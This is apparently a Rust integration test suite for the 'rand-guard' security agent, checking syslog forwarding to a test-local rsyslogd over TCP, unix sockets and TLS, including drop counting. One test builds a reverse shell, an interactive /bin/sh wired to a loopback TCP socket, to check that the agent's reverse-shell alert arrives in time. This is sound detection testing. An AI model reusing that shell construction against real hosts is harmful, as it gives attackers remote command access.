//! `[forward.syslog]` against a real rsyslogd that each test starts for
//! itself (tests/common/rsyslog.rs: its own configuration, loopback port
//! and socket; never the host's rsyslog or /dev/log). Every record the
//! agent writes locally, but the last health record (written after the
//! forwarder is done, so its counters are final), must arrive intact and
//! in order, or be counted in `forward_drops_total`: the number missing at
//! the collector is compared with that count (exactly, but across a
//! collector restart: see collector_restart_in_a_burst_...).

mod common;

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::rsyslog::{Received, Rsyslog, ServerTls, make_tls};
use common::{Agent, Marked, final_health, get, pid_of, privileged};
use serde_json::Value;

/// The agent's records that are forwarded: all but the last health one.
fn forwardable(local: &[Value]) -> Vec<&Value> {
    local
        .iter()
        .filter(|r| !(r["record_type"] == "health" && get(r, "rand_guard.health.last") == true))
        .collect()
}

/// The RFC 5424 severity rsyslog should show for a record.
fn severity(r: &Value) -> &'static str {
    match (
        r["record_type"].as_str(),
        get(r, "rand_guard.alert.severity").as_str(),
    ) {
        (Some("alert"), Some("critical")) => "crit",
        (Some("alert"), Some("high")) => "err",
        (Some("alert"), Some("medium")) => "warning",
        (Some("alert"), _) | (Some("health"), _) => "notice",
        _ => "info",
    }
}

/// Check that what the collector got is the local records in order with
/// some left out (none twice), each with the header fields rsyslog parsed
/// from it right; the number left out.
fn missing(local: &[Value], got: &[Received], agent_pid: u32) -> u64 {
    let want = forwardable(local);
    let mut i = 0;
    for (n, g) in got.iter().enumerate() {
        while i < want.len() && *want[i] != g.json {
            i += 1;
        }
        assert!(
            i < want.len(),
            "collector message {n} is not the next local record (a duplicate, reordered \
             or altered): {:?}",
            g.json
        );
        let r = want[i];
        let header = (
            g.facility.as_str(),
            g.severity.as_str(),
            g.hostname.as_str(),
            g.app_name.as_str(),
            g.procid.as_str(),
            g.msgid.as_str(),
        );
        let pid = agent_pid.to_string();
        assert_eq!(
            header,
            (
                "local0",
                severity(r),
                get(r, "host.hostname").as_str().unwrap(),
                "rand-guard",
                pid.as_str(),
                r["record_type"].as_str().unwrap(),
            ),
            "{:?}",
            g.json
        );
        i += 1;
    }
    (want.len() - got.len()) as u64
}

fn drops(health: &Value) -> u64 {
    get(health, "forward_drops_total")
        .as_object()
        .unwrap()
        .values()
        .map(|v| v.as_u64().unwrap())
        .sum()
}

fn config(marked: &Marked, forward: &str) -> String {
    format!(
        "{}[kernel]\nring_buffer_bytes = 4194304\n[network]\nenabled = true\nhooks = [\"connect\"]\n\
         [health]\ninterval_seconds = 1\n[pipeline]\nshutdown_timeout_seconds = 3\n\
         [forward.syslog]\n{forward}",
        marked.file_config()
    )
}

/// A collector (started when `running`), a marked directory for the
/// test's own chmods, and the agent's configuration with the
/// `[forward.syslog]` lines `forward` makes for that collector.
fn setup(
    tag: &str,
    tls: Option<&ServerTls>,
    running: bool,
    forward: impl Fn(&Rsyslog) -> String,
) -> (Rsyslog, Marked, String) {
    let mut rs = Rsyslog::new(tls);
    if running {
        rs.start();
    }
    let marked = Marked::new(tag);
    let cfg = config(&marked, &forward(&rs));
    (rs, marked, cfg)
}

/// Start an agent with `cfg`, make `n` marked chmods, wait until the
/// collector has them all, stop the agent: every record arrived, none
/// was dropped.
fn all_arrive(rs: &Rsyslog, marked: &Marked, cfg: &str, n: u64) {
    let agent = Agent::start(cfg);
    marked.chmod(n as usize);
    rs.wait_for("every marked chmod", Duration::from_secs(10), |got| {
        marked.count(&got.iter().map(|g| g.json.clone()).collect::<Vec<_>>()) == n
    });
    let pid = agent.pid();
    let (status, local, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let got = rs.received();
    assert_eq!(missing(&local, &got, pid), 0, "{stderr}");
    let last = final_health(&local);
    assert_eq!(drops(last), 0, "{last}");
    assert_eq!(
        get(last, "forward_messages_total"),
        got.len() as u64,
        "{last}"
    );
}

#[test]
fn tcp_every_record_arrives_and_a_reverse_shell_within_a_second() {
    if !privileged("tcp_every_record_arrives_and_a_reverse_shell_within_a_second") {
        return;
    }
    let (rs, marked, cfg) = setup("fwd-tcp", None, true, |c| {
        format!("transport = \"tcp\"\naddress = \"{}\"\n", c.address())
    });
    let agent = Agent::start(&cfg);
    marked.chmod(300);

    // A shell exec'd with a TCP socket on its stdio: rg-reverse-shell.
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = attacker.local_addr().unwrap().port();
    let raised = Instant::now();
    let conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let mut shell = Command::new("/bin/sh")
        .arg("-i")
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
            conn.try_clone().unwrap(),
        )))
        .stdout(Stdio::from(std::os::fd::OwnedFd::from(conn)))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let shell_pid = u64::from(shell.id());
    rs.wait_for(
        "the reverse shell's alert",
        Duration::from_secs(1).saturating_sub(raised.elapsed()),
        |got| {
            got.iter().any(|g| {
                g.msgid == "alert"
                    && get(&g.json, "rule.id") == "rg-reverse-shell"
                    && pid_of(&g.json) == shell_pid
            })
        },
    );
    let took = raised.elapsed();
    let (mut c, _) = attacker.accept().unwrap();
    std::io::Write::write_all(&mut c, b"exit\n").unwrap();
    shell.wait().unwrap();
    rs.wait_for("the 300 chmods", Duration::from_secs(10), |got| {
        marked.count(&got.iter().map(|g| g.json.clone()).collect::<Vec<_>>()) == 300
    });

    let pid = agent.pid();
    let (status, local, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let got = rs.received();
    assert_eq!(missing(&local, &got, pid), 0, "{stderr}");
    let last = final_health(&local);
    assert_eq!(drops(last), 0, "{last}");
    let fwd = get(last, "forward_messages_total");
    assert_eq!(fwd, got.len() as u64, "{last}");
    eprintln!("reverse-shell alert at the collector {took:?} after the shell was started");
}

#[test]
fn unix_datagrams_to_rsyslogs_own_socket() {
    if !privileged("unix_datagrams_to_rsyslogs_own_socket") {
        return;
    }
    let (rs, marked, cfg) = setup("fwd-unix", None, true, |c| {
        format!(
            "transport = \"unix\"\naddress = \"{}\"\nfacility = \"local0\"\n",
            c.socket().display()
        )
    });
    all_arrive(&rs, &marked, &cfg, 200);
}

#[test]
fn collector_down_at_start_counts_then_delivers() {
    if !privileged("collector_down_at_start_counts_then_delivers") {
        return;
    }
    let (mut rs, marked, cfg) = setup("fwd-late", None, false, |c| {
        format!(
            "transport = \"tcp\"\naddress = \"{}\"\nqueue_records = 64\n",
            c.address()
        )
    });
    let agent = Agent::start(&cfg);
    agent.wait_stderr("rand-guard: forward: 127.0.0.1", 1);
    marked.chmod(200);
    agent.wait_for("the 200th chmod", |_| marked.count(&agent.records()) == 200);
    rs.start();
    agent.wait_stderr("connected to", 1);
    marked.chmod(50);
    let later =
        |got: &[Received]| marked.count(&got.iter().map(|g| g.json.clone()).collect::<Vec<_>>());
    // The 64 queued (some of the first 200 with the health records made
    // meanwhile) and all 50 made once the collector was up.
    rs.wait_for(
        "the chmods made once it was up",
        Duration::from_secs(10),
        |g| later(g) >= 50,
    );
    let pid = agent.pid();
    let (status, local, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let got = rs.received();
    let lost = missing(&local, &got, pid);
    let h = final_health(&local);
    let down = get(h, "forward_drops_total.collector_down");
    assert!(
        lost > 0,
        "nothing was lost while the collector was down: {h}"
    );
    assert_eq!(drops(h), lost, "{h}");
    assert_eq!(down, lost, "{h}");
    // The last 50 chmods all arrived.
    let local_chmods: Vec<&Value> = local
        .iter()
        .filter(|r| marked.count(std::slice::from_ref(r)) == 1)
        .collect();
    for r in &local_chmods[local_chmods.len() - 50..] {
        assert!(got.iter().any(|g| g.json == **r), "not forwarded: {r}");
    }
}

#[test]
fn collector_restart_in_a_burst_loses_only_what_is_counted() {
    if !privileged("collector_restart_in_a_burst_loses_only_what_is_counted") {
        return;
    }
    let (mut rs, marked, cfg) = setup("fwd-restart", None, true, |c| {
        format!(
            "transport = \"tcp\"\naddress = \"{}\"\nqueue_records = 2000\n",
            c.address()
        )
    });
    let agent = Agent::start(&cfg);
    let burst = std::thread::scope(|s| {
        let b = s.spawn(|| {
            for _ in 0..300 {
                marked.chmod(20);
                std::thread::sleep(Duration::from_millis(5));
            }
        });
        std::thread::sleep(Duration::from_millis(500));
        rs.stop();
        std::thread::sleep(Duration::from_millis(700));
        rs.start();
        b.join().unwrap();
        6000
    });
    agent.wait_for("the burst's last chmod", |_| {
        marked.count(&agent.records()) == burst
    });
    std::thread::sleep(Duration::from_millis(500));
    let pid = agent.pid();
    let (status, local, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");
    let got = rs.received();
    let lost = missing(&local, &got, pid);
    let h = final_health(&local);
    eprintln!(
        "restart: {lost} of {} records missing at the collector; drops {}; resent {}; errors {}",
        forwardable(&local).len(),
        get(h, "forward_drops_total"),
        get(h, "forward_resent_total"),
        get(h, "forward_errors_total"),
    );
    assert!(get(h, "forward_errors_total").as_u64().unwrap() >= 1);
    assert!(
        drops(h) > 0,
        "the collector was down for 0.7 s of the burst: {h}"
    );
    // Every record counted is missing: nothing counted was delivered.
    assert!(drops(h) <= lost, "{h}");
    // What the collector's kernel acknowledged and its rsyslogd never read
    // (it stops reading at SIGTERM, then closes) is lost where no sender
    // can see it: plain TCP syslog has no acknowledgement by the process
    // (docs/shipping.md). Everything else is counted exactly: most runs
    // here find the count equal to the number missing; the rest differ by
    // a few milliseconds of the burst (18-34 records seen). More than that
    // is a bug of ours.
    assert!(
        lost - drops(h) <= 100,
        "{} records missing and not counted: {h}\n{}",
        lost - drops(h),
        rs.diagnostics()
    );
}

#[test]
fn tls_to_rsyslog_gtls_with_a_ca_made_here() {
    if !privileged("tls_to_rsyslog_gtls_with_a_ca_made_here") {
        return;
    }
    let pki = tempfile::tempdir().unwrap();
    let tls = make_tls(pki.path());
    let (rs, marked, cfg) = setup("fwd-tls", Some(&tls), true, |c| {
        format!(
            "transport = \"tls\"\naddress = \"{}\"\ntls_ca = \"{}\"\n",
            c.address(),
            tls.ca.display()
        )
    });
    all_arrive(&rs, &marked, &cfg, 100);
}

#[test]
fn a_missing_ca_file_stops_the_agent_naming_the_key() {
    if !privileged("a_missing_ca_file_stops_the_agent_naming_the_key") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("config.toml");
    std::fs::write(
        &cfg,
        "[forward.syslog]\ntransport = \"tls\"\naddress = \"127.0.0.1:6514\"\n\
         tls_ca = \"/nonexistent/rand-guard-ca.pem\"\n",
    )
    .unwrap();
    let out = Command::new(common::AGENT)
        .args(["run", "--config"])
        .arg(&cfg)
        .arg("--output")
        .arg(dir.path().join("out.jsonl"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains(
            "config key `forward.syslog.tls_ca`: cannot read /nonexistent/rand-guard-ca.pem"
        ),
        "{stderr}"
    );
}
